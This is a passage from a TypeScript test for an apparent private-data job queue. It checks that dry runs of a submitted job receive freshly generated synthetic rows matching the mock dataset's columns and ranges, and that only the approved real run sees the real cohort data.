    const published = createHash("sha256").update(mockCsv).digest("hex");
    const uid = await world.submit({
      "run.sh": [
        'seen=$(sha256sum "$DATA_DIR/cohort/people.csv" | cut -d" " -f1)',
        `if [ "$seen" = "${published}" ]; then echo RECOGNISED; else echo "other bytes"; fi`,
        'cp "$DATA_DIR/cohort/people.csv" "$OUTPUT_DIR/seen.csv"',
        "",
      ].join("\n"),
    });
    await world.pass();
    const seen: string[] = [];
    for (let i = 0; i < 2; i += 1) {
      const run = await runScript("scq.ts", ["dry-run", uid, ...worldArgs(world)]);
      expect(run.exitCode, run.stderr).toBe(0);
      expect(run.stdout).toContain("other bytes");
      expect(run.stdout).not.toContain("RECOGNISED");
      seen.push(await fs.readFile(path.join(dryRunDir(world.paths, uid), "output", "seen.csv"), "utf8"));
    }
    // Control: the bytes the job would have compared are exactly what anyone may read where the mock is published.
    const publishedFile = path.join(mockFolder(datasiteDir(world.dataDir, OWNER), world.config.queue_name), "cohort", "people.csv");
    expect(
      createHash("sha256")
        .update(await fs.readFile(publishedFile))
        .digest("hex"),
    ).toBe(published);
    // Each dry run drew its own rows; each keeps the mock's columns and each column's kind and range.
    expect(seen[0]).not.toBe(seen[1]);
    for (const text of seen) {
      const [header, ...lines] = text.trimEnd().split("\n");
      expect(header).toBe("id,ward,age,weight,admitted");
      expect(lines.length).toBeGreaterThanOrEqual(48);
      expect(lines.length).toBeLessThanOrEqual(72);
      for (const line of lines) {
        const [id, ward, age, weight, admitted] = line.split(",");
        expect(id).toMatch(/^[A-Z]\d{4}$/);
        expect(wards).toContain(ward);
        expect(Number(age)).toSatisfy((n: number) => Number.isInteger(n) && n >= 20 && n <= 69);
        expect(weight).toMatch(/^\d+\.\d$/);
        expect(Number(weight)).toSatisfy((n: number) => n >= 60 && n <= 68.5);
        expect(admitted).toMatch(/^2024-01-(0[1-9]|1\d|2[0-8])$/);
      }
      expect(lines.some((line) => rows.includes(line))).toBe(false);
    }
    // The real run sees the real data.
    const real = await world.approveAndRun(uid);
    expect(await fs.readFile(path.join(real.dir, "output", "seen.csv"), "utf8")).toContain("REAL1,North");
    await fs.remove(cohort);
    await fs.remove(mock);
  });
});
